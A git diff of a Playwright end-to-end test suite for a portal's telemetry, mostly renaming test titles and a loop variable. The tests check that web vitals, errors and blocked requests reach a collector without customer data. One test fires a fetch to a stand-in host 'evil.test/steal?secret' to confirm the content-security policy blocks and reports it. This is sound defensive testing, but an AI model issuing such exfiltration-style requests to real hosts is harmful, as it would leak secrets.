@@ -49,7 +49,7 @@ const startCollector = async (): Promise<RunningCollector> => {
   }
 }
 
-/** The portal with telemetry on, told to a collector of its own. */
+/** The portal with telemetry on, and a collector of its own. */
 const test = portalTest.extend<object, { readonly collector: RunningCollector }>({
   collector: [
     // biome-ignore lint/correctness/noEmptyPattern: Playwright wants the fixtures of a fixture named, even if there are none
@@ -95,7 +95,7 @@ test.describe('Telemetry', () => {
     await page.getByLabel('Email').fill('ada@compass.test')
     await leave(page)
     await expect.poll(() => collector.bytes()).toContain('"LCP"')
-    for (const told of [
+    for (const text of [
       '"browser.web_vital"',
       '{"key":"url.template","value":{"stringValue":"/sign-in"}}',
       '{"key":"browser.language","value":{"stringValue":"en-GB"}}',
@@ -103,7 +103,7 @@ test.describe('Telemetry', () => {
       '{"key":"portal.form_factor","value":{"stringValue":"computer"}}',
       '{"key":"portal.first_visit","value":{"boolValue":true}}',
     ])
-      expect(collector.bytes()).toContain(told)
+      expect(collector.bytes()).toContain(text)
   })
 
   test.describe('where something breaks', () => {
@@ -115,7 +115,7 @@ test.describe('Telemetry', () => {
       await expect.poll(() => collector.bytes()).toMatch(/portal\.start\.failed.*"app"/)
     })
 
-    test('tells where a screen has thrown, and not what it said of a customer', async ({ page, collector }) => {
+    test('reports the place of an error of a screen, and no data of a customer', async ({ page, collector }) => {
       await page.route(screenOf('orders'), async (route) => {
         const answer = await route.fetch()
         const fault = `setTimeout(() => { null["${demo.username}"] })`
@@ -129,7 +129,7 @@ test.describe('Telemetry', () => {
       expect(collector.bytes()).not.toContain(demo.username)
     })
 
-    test('tells what the policy of the page has blocked', async ({ page, collector }) => {
+    test('reports an address that the policy of the page has blocked', async ({ page, collector }) => {
       await page.goto('/sign-in')
       await page.evaluate(() => fetch('https://evil.test/steal?secret').catch(() => undefined))
       await expect.poll(() => collector.bytes()).toMatch(/portal\.policy\.violated.*connect-src.*https:\/\/evil\.test"/)
@@ -137,7 +137,7 @@ test.describe('Telemetry', () => {
     })
   })
 
-  test('tells which call has failed, and no secret of a customer’s day', async ({ page, portal, collector }) => {
+  test('reports a failed call by its name, and no secret of a customer', async ({ page, portal, collector }) => {
     const code = await makeCode(portal)
     const allowed = { 'access-control-allow-origin': portal.url, 'access-control-allow-credentials': 'true' }
     const failing = { status: 500, headers: allowed, body: `gone, ${demo.username}` }
